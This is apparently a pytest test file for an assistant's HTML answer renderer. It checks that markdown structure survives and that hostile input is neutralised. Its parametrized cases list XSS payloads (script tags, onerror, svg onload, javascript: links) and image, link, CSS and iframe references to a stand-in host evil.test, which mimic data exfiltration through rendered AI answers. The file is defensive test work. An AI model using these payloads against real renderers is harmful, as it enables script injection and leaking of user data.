"""Answers shown as HTML: structure and words, and nothing that leads or asks outside."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tenant_app.assistant.rendering import rendered

ALLOWED = re.compile(
    r"</?(?:blockquote|br|code|del|em|h[1-6]|hr|li|ol|p|pre|strong|table|tbody|td|th|thead|tr|ul)>"
    r"|<ol start=\"\d+\">"
)


def test_the_structure_of_an_answer_is_kept() -> None:
    html = rendered(
        "# Réponse\n\nLe délai est **court** [1][2].\n\n1. un\n2. deux\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )

    assert "<h1>Réponse</h1>" in html
    assert "<strong>court</strong> [1][2]." in html
    assert "<ol>\n<li>un</li>" in html
    assert "<td>2</td>" in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.test/?d=1)",
        "![x][e]\n\n[e]: https://evil.test/?d=1",
        "[clic](https://evil.test)",
        "[clic](javascript:alert(1))",
        "<https://evil.test>",
        "https://evil.test",
        "<a href='https://evil.test'>clic</a>",
        "[1]: https://evil.test\n\nOui [1].",
        "<svg/onload=alert(1)>",
        "`<img src=x>`",
        "<style>@import 'https://evil.test'</style>",
        "<details open ontoggle=alert(1)>",
        "a\n<!-- --><iframe src='https://evil.test'>",
    ],
)
def test_nothing_is_asked_for_and_nothing_runs(text: str) -> None:
    html = str(rendered(text))

    assert re.sub(ALLOWED, "", html).find("<") == -1
    assert "href" not in re.sub(r"&lt;.*?&gt;", "", html)


def test_citation_marks_stay_marks_whatever_the_text_defines() -> None:
    html = rendered("Oui [1].\n\n[1]: https://evil.test")

    assert "Oui [1]." in html


@given(text=st.text(alphabet="a<>!()[]`*_#&;:/\"'= \n1-|~\\hrefsc", max_size=120))
def test_whatever_is_written_only_harmless_tags_come_out(text: str) -> None:
    assert "<" not in ALLOWED.sub("", str(rendered(text)))
